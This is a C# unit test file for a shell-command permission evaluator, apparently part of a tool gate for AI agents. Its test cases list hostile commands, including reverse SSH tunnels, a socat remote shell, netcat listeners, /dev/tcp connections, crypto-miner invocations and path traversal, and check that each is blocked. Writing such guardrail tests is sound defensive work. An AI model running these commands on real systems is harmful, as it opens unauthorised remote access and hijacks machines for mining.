using Microsoft.Extensions.Time.Testing;
using ToolGate.Core.Actions;
using ToolGate.Core.Decisions;
using ToolGate.Core.Grants;
using ToolGate.Core.Shell;
using ToolGate.Core.Tests.Support;

namespace ToolGate.Core.Tests.Shell;

public class ShellEvaluatorTests
{
    private const string Project = "/srv/project";

    [Theory]
    [InlineData("autossh -M 0 -N -R 9000:127.0.0.1:22 ops@203.0.113.9", "guardrail:shell.tunnel")]
    [InlineData("ngrok tcp 22", "guardrail:shell.tunnel")]
    [InlineData("socat TCP:198.51.100.7:443 EXEC:sh", "guardrail:shell.tunnel")]
    [InlineData("nc -lvp 9001", "guardrail:shell.tunnel")]
    [InlineData("xmrig -o pool.example:3333", "guardrail:shell.miner")]
    [InlineData("/usr/bin/ssh -R 9000:127.0.0.1:22 a@198.51.100.7", "guardrail:shell.tunnel")]
    [InlineData("ssh -NfR 9000:localhost:22 a@198.51.100.7", "guardrail:shell.tunnel")]
    [InlineData("ssh -o ProxyCommand=sh a@198.51.100.7", "guardrail:shell.tunnel")]
    [InlineData("ssh -o LocalForward=8080:db:5432 a@198.51.100.7", "guardrail:shell.tunnel")]
    [InlineData("curl -o x stratum+tcp://pool.example:3333", "guardrail:shell.miner")]
    [InlineData("cat /dev/tcp/198.51.100.7/80", "guardrail:shell.reverse-shell")]
    public void Decide_GuardrailHit_IsCriticalEvenWhenGranted(string command, string rule)
    {
        var policy = Compile(TestGrants.Shell("wide", [
            "ssh *", "/usr/bin/ssh *", "socat *", "autossh *", "ngrok *", "nc *", "xmrig *", "curl *", "cat *",
        ]));

        var verdict = Decide(command, policy);

        Assert.False(verdict.IsAllowed);
        Assert.Equal(Severity.Critical, verdict.Severity);
        Assert.StartsWith("guardrail:", verdict.Rule, StringComparison.Ordinal);
        Assert.Equal(rule, verdict.Rule);
        Assert.Null(verdict.Grant);
    }

    [Fact]
    public void Decide_SameGrantWithoutForwarding_IsAllowed()
    {
        var grant = TestGrants.Shell("wide", ["ssh *"]);

        var verdict = Decide("ssh a@bastion.example.com uptime", Compile(grant));

        Assert.True(verdict.IsAllowed);
        Assert.Same(grant, verdict.Grant);
    }

    [Fact]
    public void Decide_MatchingAllow_NamesGrantAndPattern()
    {
        var grant = TestGrants.Shell("g-git", ["git log *"], paths: ["/srv/project/**"]);

        var verdict = Decide("git log --oneline -20", Compile(grant));

        Assert.Equal(DecisionOutcome.Allow, verdict.Outcome);
        Assert.Equal("grant:g-git", verdict.Rule);
        Assert.Equal("command matches 'git log *'", verdict.Reason);
        Assert.Equal(Severity.None, verdict.Severity);
        Assert.Same(grant, verdict.Grant);
    }

    [Fact]
    public void Decide_DenyPattern_WinsOverAllowInSameGrant()
    {
        var policy = Compile(TestGrants.Shell("g1", ["git *"], deny: ["git push *"]));

        var verdict = Decide("git push --force origin main", policy);

        Assert.False(verdict.IsAllowed);
        Assert.Equal("grant:g1", verdict.Rule);
        Assert.Equal("command matches deny pattern 'git push *'", verdict.Reason);
        Assert.Equal(Severity.High, verdict.Severity);
        Assert.True(Decide("git status", policy).IsAllowed);
    }

    [Fact]
    public void Decide_DenyPattern_WinsOverAllowInAnotherGrant()
    {
        var policy = Compile(
            TestGrants.Shell("allow-all-git", ["git *"]),
            TestGrants.Shell("no-push", [], deny: ["git push *"]));

        var verdict = Decide("git push", policy);

        Assert.False(verdict.IsAllowed);
        Assert.Equal("grant:no-push", verdict.Rule);
    }

    [Fact]
    public void Decide_ExpiredGrant_DoesNotAllow()
    {
        var policy = Compile(TestGrants.Shell("old", ["git log *"], expiresAt: TestGrants.Now.AddSeconds(-1)));

        var verdict = Decide("git log", policy);

        Assert.False(verdict.IsAllowed);
        Assert.Equal(Rules.DefaultDeny, verdict.Rule);
    }

    [Fact]
    public void Decide_GrantReachingExpiry_StopsAllowingAtTheExpiryInstant()
    {
        var clock = new FakeTimeProvider(TestGrants.Now);
        var policy = Compile(TestGrants.Shell("temp", ["git log *"], expiresAt: TestGrants.Now.AddHours(1)));
        var action = new ShellAction("git log", Project);

        Assert.True(ShellEvaluator.Decide(action, policy, TestKnowledge.Shell, clock.GetUtcNow(), TestKnowledge.ShellNetwork).IsAllowed);
        clock.Advance(TimeSpan.FromHours(1) - TimeSpan.FromTicks(1));
        Assert.True(ShellEvaluator.Decide(action, policy, TestKnowledge.Shell, clock.GetUtcNow(), TestKnowledge.ShellNetwork).IsAllowed);
        clock.Advance(TimeSpan.FromTicks(1));
        Assert.False(ShellEvaluator.Decide(action, policy, TestKnowledge.Shell, clock.GetUtcNow(), TestKnowledge.ShellNetwork).IsAllowed);
    }

    [Fact]
    public void Decide_PathOutOfScope_NamesArgumentAndGrant()
    {
        var policy = Compile(TestGrants.Shell("g-paths", ["head *"], paths: ["/srv/project/**"]));

        var verdict = Decide("head ../../../etc/hosts", policy);

        Assert.False(verdict.IsAllowed);
        Assert.Equal("grant:g-paths", verdict.Rule);
        Assert.Equal("argument '../../../etc/hosts' resolves to '/etc/hosts', outside the granted paths", verdict.Reason);
        Assert.Equal(Severity.High, verdict.Severity);
    }

    [Fact]
    public void Decide_MissingCwdWithPathScope_IsDeniedByTheGrant()
    {
        var policy = Compile(TestGrants.Shell("g-paths", ["head *"], paths: ["/srv/project/**"]));

        var verdict = ShellEvaluator.Decide(new ShellAction("head README.md", Cwd: null), policy, TestKnowledge.Shell, TestGrants.Now, TestKnowledge.ShellNetwork);

        Assert.False(verdict.IsAllowed);
        Assert.Equal("grant:g-paths", verdict.Rule);
        Assert.Equal("the grant limits paths, so an absolute working directory (cwd) is required", verdict.Reason);
    }

    [Fact]
    public void Decide_OutOfScopeInOneGrant_IsAllowedByAnotherGrantThatCovers()
    {
        var wide = TestGrants.Shell("wide", ["head *"], paths: ["/srv/**"]);
        var policy = Compile(TestGrants.Shell("narrow", ["head *"], paths: ["/srv/project/**"]), wide);

        var verdict = Decide("head /srv/other/x", policy);

        Assert.True(verdict.IsAllowed);
        Assert.Same(wide, verdict.Grant);
    }

    [Fact]
    public void Decide_NoMatchingGrant_IsDefaultDeny()
    {
        var policy = Compile(TestGrants.Shell("g", ["git log *"]));

        var verdict = Decide("git push", policy);

        Assert.False(verdict.IsAllowed);
        Assert.Equal("default-deny", verdict.Rule);
        Assert.Equal("no shell grant allows 'git' with these arguments", verdict.Reason);
        Assert.Equal(Severity.Low, verdict.Severity);
    }

    [Fact]
    public void Decide_AbsoluteProgramPath_DoesNotMatchBareNameGrant()
    {
        var verdict = Decide("/bin/grep -r x .", Compile(TestGrants.Shell("g", ["grep *"])));

        Assert.Equal(Rules.DefaultDeny, verdict.Rule);
    }

    [Fact]
    public void Decide_ListWithAnUngrantedCommand_IsDeniedNamingIt()
    {
        var verdict = Decide("git log; ssh a@bastion.example.com", Compile(TestGrants.Shell("g", ["git log *"])));

        Assert.False(verdict.IsAllowed);
        Assert.Equal(Rules.DefaultDeny, verdict.Rule);
        Assert.Equal("no shell grant allows 'ssh' with these arguments", verdict.Reason);
    }

    [Fact]
    public void Decide_ListOfGrantedCommands_IsAllowed()
    {
        var verdict = Decide("git log --oneline && git log -1 | git log -2; git log", Compile(TestGrants.Shell("g", ["git log *"])));

        Assert.True(verdict.IsAllowed, verdict.Reason);
    }

    [Theory]
    [InlineData("git log &", "background job '&' (the command would outlive the call)")]
    [InlineData("(git log)", "unsupported shell construct: subshell '( … )'")]
    [InlineData("git log > out.txt", "redirection '> out.txt' writes a file")]
    [InlineData("git log $(id)", "unsupported shell construct: command substitution '$(id)'")]
    [InlineData("A=1 git log", "environment assignment 'A=' changes how the command runs")]
    [InlineData("git log ~/x", "unsupported shell construct: tilde expansion '~'")]
    [InlineData("/usr/bin/gi? log", "pattern in command position '/usr/bin/gi?'")]
    [InlineData("git log 3< /srv/project/a", "the command line uses a redirection the tool cannot run exactly without a shell")]
    [InlineData("eval git log", "shell builtin 'eval' runs text as code or changes how later commands run")]
    [InlineData("hash -p /usr/bin/ssh git; git log", "shell builtin 'hash' runs text as code or changes how later commands run")]
    public void Decide_UnjudgeableConstruct_IsDeniedNamingIt(string command, string reason)
    {
        var verdict = Decide(command, Compile(TestGrants.Shell("g", ["git log *", "id"])));

        Assert.False(verdict.IsAllowed);
        Assert.Equal(Rules.UnsupportedShellConstruct, verdict.Rule);
        Assert.Equal(reason, verdict.Reason);
    }

    [Fact]
    public void Decide_EmptyPolicy_IsDefaultDeny()
    {
        var verdict = Decide("git log", ShellPolicy.Empty);

        Assert.Equal(Rules.DefaultDeny, verdict.Rule);
    }

    private static ShellPolicy Compile(params ShellGrant[] grants) => ShellPolicy.Compile(grants);

    private static Verdict Decide(string command, ShellPolicy policy) =>
        ShellEvaluator.Decide(new ShellAction(command, Project), policy, TestKnowledge.Shell, TestGrants.Now, TestKnowledge.ShellNetwork);
}
